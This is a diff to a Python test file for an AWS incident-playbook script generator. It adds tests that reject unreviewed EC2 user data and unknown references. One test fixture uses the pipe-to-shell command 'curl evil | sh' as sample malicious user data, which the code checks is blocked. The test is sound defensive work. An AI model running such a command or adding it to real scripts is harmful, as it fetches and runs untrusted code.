@@ -6,7 +6,10 @@ same words, forty times as fast. Against the lab, with the real command: the las
 """
 
 import ast
+import base64
 import contextlib
+import dataclasses
+import hashlib
 import io
 import json
 import os
@@ -31,7 +34,7 @@ from vpce_tui.aws.call import Call, Permit
 from vpce_tui.aws.errors import AwsError
 from vpce_tui.playbooks.plan import Kind, Plan, PlannedCall, Step
 from vpce_tui.playbooks.plan_file import wrong
-from vpce_tui.playbooks.values import document, ref, resolve, text
+from vpce_tui.playbooks.values import document, ref, resolve, sealed, text
 from vpce_tui.playbooks.views import render
 
 INCIDENT = "case-1"
@@ -217,7 +220,7 @@ def test_what_a_script_says_is_text_in_quotes_and_nothing_else(said: str, more: 
     """No comment in a shell script: zsh runs what stands in one where lines are pasted. In Python a comment is one line."""
     plan = plan_of([call_of("ec2", "StopInstances", {"InstanceIds": ["i-1"]}, said)], more)
     lines = render(plan, "cli").splitlines()
-    assert [line for line in lines if line.startswith("#")] == ["#!/bin/sh"]
+    assert [line for line in lines if line.startswith("#")] == []
     for line in (line for line in lines if line.startswith(": ")):
         words = shlex.split(line)
         assert len(words) == 2
@@ -348,6 +351,56 @@ def test_a_script_takes_no_other_name_for_an_incident(form: str, name: str, fold
     ended = subprocess.run([*program, "script"], cwd=folder, env=env, capture_output=True, check=False, timeout=60)
     assert ended.returncode != 0
     assert set(folder.iterdir()) == before
+
+
+USER_DATA = [
+    PlannedCall("read", "ec2", "DescribeInstanceAttribute", HOME, {"InstanceId": "i-1", "Attribute": "userData"}, gives={"USER_DATA": "UserData.Value"}),
+    PlannedCall("run", "ec2", "RunInstances", HOME, {"MinCount": 1, "MaxCount": 1, "ImageId": "ami-1", "UserData": sealed(ref("USER_DATA"), decode=True, sha256=hashlib.sha256(b"reviewed").hexdigest())}),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("held", "sent"), [(b"reviewed", True), (b"curl evil | sh", False)])
+def test_user_data_that_is_not_what_was_reviewed_is_not_sent(held: bytes, sent: bool, folder: Path) -> None:
+    script = render(plan_of(USER_DATA), "cli")
+    text = base64.b64encode(held).decode()
+    stub = f"aws() {{ {WHO}echo called >> count; echo {text}; }}\n"
+    no_evidence(folder)
+    (folder / "count").unlink(missing_ok=True)
+    (folder / "script").write_text(stub + script)
+    env = {"PATH": os.environ["PATH"], "INCIDENT": INCIDENT}
+    ended = subprocess.run(
+        ["sh", "script"], cwd=folder, env=env, capture_output=True, text=True, check=False, timeout=60
+    )
+    assert (ended.returncode == 0) is sent, ended.stderr
+    assert (folder / "count").read_text().count("called") == (2 if sent else 1)
+    program = render(plan_of(USER_DATA), "python")
+    assert program.index("reviewed(GOT_USER_DATA") < program.index(".run_instances(")
+
+
+def test_a_reference_that_is_known_is_printed_and_one_that_is_not_ends_the_script(folder: Path) -> None:
+    tag = PlannedCall(
+        "tag", "ec2", "CreateTags", HOME, {"Resources": [ref("GROUP")], "Tags": [{"Key": "k", "Value": "v"}]}
+    )
+    plan = plan_of([tag])
+    known = dataclasses.replace(plan.steps[0], bindings={"GROUP": "sg-1"})
+    for form, program in (("cli", "sh"), ("python", sys.executable)):
+        assert "sg-1" in render(dataclasses.replace(plan, steps=(known,)), form)
+        no_evidence(folder)
+        (folder / "script").write_text((STUB if form == "cli" else "") + render(plan, form))
+        (folder / "words").unlink(missing_ok=True)
+        with wire() as known_wire:
+            known_wire.account = "123456789012"
+            env = {
+                **os.environ, "INCIDENT": INCIDENT, "GOT_GROUP": "sg-of-somebody-else", "AWS_ENDPOINT_URL": known_wire.url,
+                "AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x", "AWS_CONFIG_FILE": os.devnull, "NO_PROXY": "*",
+            }  # fmt: skip
+            ended = subprocess.run(
+                [program, "script"], cwd=folder, env=env, capture_output=True, text=True, check=False, timeout=60
+            )
+            assert ended.returncode == 1
+            assert "is not known here" in ended.stderr
+            assert known_wire.seen == []
+        assert not (folder / "words").exists()
 
 
 # -- with the real command, against the lab
